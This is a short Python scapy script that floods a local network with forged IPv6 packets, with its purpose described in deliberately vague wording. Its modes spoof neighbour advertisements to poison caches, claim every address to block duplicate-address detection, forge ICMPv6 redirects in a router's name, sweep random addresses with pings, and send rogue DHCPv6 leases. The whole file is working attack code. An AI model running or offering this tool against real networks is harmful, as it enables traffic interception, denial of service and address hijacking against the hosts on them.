"""Says one thing of neighbour discovery or DHCPv6 again and again, until it is ended.

Arguments: interface, own hardware address, what to say, and whom it concerns:
    claim MAC IP ADDRESS            to the host with MAC and IP: ADDRESS is here
    ask MAC IP ADDRESS              the same host is asked something, in the name of ADDRESS, which is here
    deny ADDRESS                    to all: ADDRESS is taken
    redirect MAC ROUTER-MAC IP ROUTER FAR NEAR
                                    to the host with MAC and IP, in the name of ROUTER: NEAR, which is here, is the way to FAR
    sweep MAC IP NETWORK            from IP through the router with MAC: is this host of NETWORK there? Each time another
    lease MAC IP SERVER ADDRESS     to the host with MAC and IP: SERVER, which is here, gives you ADDRESS
"""
import random
import sys
import time

from scapy.all import (
    DHCP6_Advertise, DHCP6_Reply, DHCP6OptIA_NA, DHCP6OptIAAddress, DHCP6OptServerId, DUID_LL, UDP, Ether, ICMPv6EchoReply,
    ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_Redirect, ICMPv6NDOptDstLLAddr, ICMPv6NDOptSrcLLAddr, IPv6, conf,
    sendp,
)

conf.verb = 0
interface, mac, kind, *words = sys.argv[1:]


def message(source, destination, to, payload, sender=mac):
    return Ether(src=sender, dst=to) / IPv6(src=source, dst=destination, hlim=255) / payload


def claim(to, destination, address):
    said = ICMPv6ND_NA(tgt=address, R=0, S=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac)
    return [message(address, destination, to, said)]


def ask(to, destination, address):
    return [message(address, destination, to, ICMPv6ND_NS(tgt=destination) / ICMPv6NDOptSrcLLAddr(lladdr=mac))]


def deny(address):
    said = ICMPv6ND_NA(tgt=address, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac)
    return [message(address, "ff02::1", "33:33:00:00:00:01", said)]


def redirect(to, router_mac, destination, router, far, near):
    question = ICMPv6EchoRequest(id=7, data="A" * 16)
    answer = IPv6(src=destination, dst=far, hlim=64) / ICMPv6EchoReply(id=7, data="A" * 16)
    said = ICMPv6ND_Redirect(tgt=near, dst=far) / ICMPv6NDOptDstLLAddr(lladdr=mac) / answer
    return [message(far, destination, to, question, router_mac), message(router, destination, to, said, router_mac)]


def sweep(to, source, network):
    hosts = [f"{network}{random.getrandbits(16):x}:{random.getrandbits(16):x}" for _ in range(100)]
    return [message(source, host, to, ICMPv6EchoRequest()) for host in hosts]


def lease(to, destination, server, address):
    given = DHCP6OptIA_NA(iaid=1, T1=100, T2=200, ianaopts=[DHCP6OptIAAddress(addr=address, preflft=300, validlft=400)])
    options = DHCP6OptServerId(duid=DUID_LL(lladdr=mac)) / given
    datagrams = [UDP(sport=547, dport=546) / said(trid=7) / options for said in (DHCP6_Advertise, DHCP6_Reply)]
    return [message(server, destination, to, datagram) for datagram in datagrams]


SAYINGS = {"claim": claim, "ask": ask, "deny": deny, "redirect": redirect, "sweep": sweep, "lease": lease}
print("saying", flush=True)
while True:
    sendp(SAYINGS[kind](*words), iface=interface)
    time.sleep(0.1)
